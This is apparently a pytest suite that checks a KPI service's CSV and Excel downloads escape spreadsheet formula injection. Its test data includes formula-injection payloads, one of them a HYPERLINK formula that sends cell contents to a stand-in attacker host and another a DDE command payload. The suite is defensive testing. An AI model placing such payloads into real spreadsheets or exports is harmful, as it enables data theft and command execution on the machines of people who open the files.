"""Issue 20, item 1: text an `ingest:` token sends (a dimension value) or a KPI's title comes
back in every CSV and Excel download as text, never as a formula a spreadsheet runs; numbers,
negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from tests.server.conftest import PASSWORD, PROJECT, Served
from tolok.auth import accounts
from tolok.server.app import create_app

# Each value ingested, and its cell in a CSV file: a `'` before what starts like a formula;
# a carriage return, which would end the row early, as a line feed (a quoted field).
CSV_CELLS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")':
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+1+1": "'+1+1",
    "@SUM(1,1)": "'@SUM(1,1)",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\n=1+1",
    "note\r=1+1": "note\n=1+1",  # else a row of its own that starts with a formula
}  # fmt: skip
HOSTILE = list(CSV_CELLS)
# As an Excel file reads back: the same, but XML reads a carriage return as a line feed.
XLSX_TEXTS = [v.replace("\r", "\n") for v in HOSTILE]
PLAIN = "refund"  # a plain dimension value, its amount negative
NEGATIVE = -2.5
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def ingest_hostile(served: Served) -> TestClient:
    """The hostile values ingested as `kind` by a token that may only ingest into `events`
    and read, then the refresh they start; the token's client, to download with."""
    program = served.token("editor@example.com", ["ingest:events", "read"])
    rows = [{"event_id": f"h{i}", "happened_at": "2026-01-10 10:00", "kind": kind, "amount": i}
            for i, kind in enumerate(HOSTILE, start=1)]  # fmt: skip
    rows.append({"event_id": "r1", "happened_at": "2026-01-11 10:00", "kind": PLAIN,
                 "amount": NEGATIVE})  # fmt: skip
    sent = program.post("/api/v1/datasets/events/rows", json=rows)
    assert sent.status_code == 200, sent.text
    assert sent.json()["accepted"] == len(rows)
    served.client.app.state.tolok.refresher.wait()
    return program


def csv_files(served: Served, program: TestClient) -> dict[str, str]:
    browser = served.browser("viewer@example.com")
    files = {
        "page": browser.get("/kpis/event_amount.csv", params={"by": "kind"}),
        "api": program.get("/api/v1/kpis/event_amount/series",
                           params={"by": "kind", "format": "csv"}),
    }  # fmt: skip
    for answer in files.values():
        assert answer.status_code == 200, answer.text
    return {where: answer.text for where, answer in files.items()}


def xlsx_files(served: Served, program: TestClient) -> dict[str, bytes]:
    browser = served.browser("viewer@example.com")
    files = {
        "page": browser.get("/kpis/event_amount.xlsx", params={"by": "kind"}),
        "api": program.get("/api/v1/kpis/event_amount/series",
                           params={"by": "kind", "format": "xlsx"}),
    }  # fmt: skip
    for answer in files.values():
        assert answer.status_code == 200, answer.text
    return {where: answer.content for where, answer in files.items()}


def assert_csv_is_inert(text: str) -> None:
    """Every dimension value that starts like a formula starts with `'`; the negative value
    is written as a number; no other cell starts like a formula unless it is a number."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    kind, value = header.index("kind"), header.index("value")
    assert sorted(r[kind] for r in body) == sorted([*CSV_CELLS.values(), PLAIN])
    refund = next(r for r in body if r[kind] == PLAIN)
    assert refund[value] == str(NEGATIVE)
    assert float(refund[value]) == NEGATIVE
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a number may start with "-" (or "+")


def assert_xlsx_is_inert(content: bytes) -> None:
    """No cell is a formula; each hostile value reads back as the text sent; the negative
    value is a number."""
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert [c.coordinate for c in row if c.data_type == "f"] == []
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    kind, value = header.index("kind"), header.index("value")
    cells = {row[kind].value: row for row in sheet.iter_rows(min_row=2)}
    assert sorted(cells) == sorted([*XLSX_TEXTS, PLAIN])
    for text in XLSX_TEXTS:
        assert cells[text][kind].data_type == "s"
        if text.startswith(FORMULA_STARTS):
            assert cells[text][kind].quotePrefix  # editing it in Excel keeps it text
    assert cells[PLAIN][value].value == NEGATIVE
    assert cells[PLAIN][value].data_type == "n"


def test_csv_downloads_write_formula_text_with_a_quote_and_numbers_as_numbers(
    served: Served,
) -> None:
    program = ingest_hostile(served)
    files = csv_files(served, program)
    for text in files.values():
        assert_csv_is_inert(text)
    assert files["page"] == files["api"]


def test_excel_downloads_write_formula_text_as_text_and_numbers_as_numbers(
    served: Served,
) -> None:
    program = ingest_hostile(served)
    for content in xlsx_files(served, program).values():
        assert_xlsx_is_inert(content)


TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@contextmanager
def serving(root: Path, project: str, orders: str) -> Iterator[TestClient]:
    """The served project with other YAML and orders (a file the warehouse reads, where the
    ingest's checks do not reach); a viewer's browser."""
    (root / "tolok.yaml").write_text(project, encoding="utf-8")
    (root / "orders.csv").write_text(orders, encoding="utf-8")
    app = create_app(root, refresh_delay=0.05)
    with Session(app.state.tolok.engine) as session, session.begin():
        accounts.add_user(session, "viewer@example.com", "", "viewer", "test", PASSWORD)
    with TestClient(app) as client:
        yield Served(root, client).browser("viewer@example.com")
    if app.state.tolok.refresher is not None:
        app.state.tolok.refresher.wait()


def test_a_kpi_titled_like_a_formula_downloads_with_its_title_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The title holds the `/` and `:` an Excel sheet's name cannot hold (the download
    failed), and a region starts like a formula."""
    monkeypatch.setenv("TOLOK_TODAY", "2026-03-01")
    project = PROJECT.replace("title: Revenue\n", f"title: '{TITLE}'\n")
    assert TITLE in project
    orders = 'ordered_at,region,amount\n2026-01-05,"@SUM(1,1)",100\n2026-02-03,Bali,-2.5\n'
    with serving(tmp_path, project, orders) as browser:
        answer = browser.get("/kpis/revenue.xlsx", params={"by": "region"})
        text = browser.get("/kpis/revenue.csv", params={"by": "region"}).text
    assert answer.status_code == 200, answer.text
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    assert sheet.title == '=HYPERLINK("http---evil.example'  # 31 characters, no "/" or ":"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    header = [c.value for c in sheet[1]]
    region, value = header.index("region"), header.index("value")
    cells = {row[region].value: row for row in sheet.iter_rows(min_row=2)}
    assert cells["@SUM(1,1)"][region].data_type == "s"
    assert (cells["Bali"][value].value, cells["Bali"][value].data_type) == (-2.5, "n")
    rows = {r["region"]: r for r in csv.DictReader(io.StringIO(text))}
    assert set(rows) == {"'@SUM(1,1)", "Bali"}
    assert rows["Bali"]["value"] == "-2.5"


def test_a_value_excel_cannot_hold_does_not_break_the_download(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A control character (a bell) in a file's rows: openpyxl refuses it, so it shows as
    U+FFFD rather than failing the whole download (the API's ingest refuses such rows)."""
    monkeypatch.setenv("TOLOK_TODAY", "2026-03-01")
    orders = "ordered_at,region,amount\n2026-01-05,=ding\x07,100\n"
    with serving(tmp_path, PROJECT, orders) as browser:
        answer = browser.get("/kpis/revenue.xlsx", params={"by": "region"})
    assert answer.status_code == 200, answer.text
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    assert (sheet["C2"].value, sheet["C2"].data_type) == ("=ding\ufffd", "s")
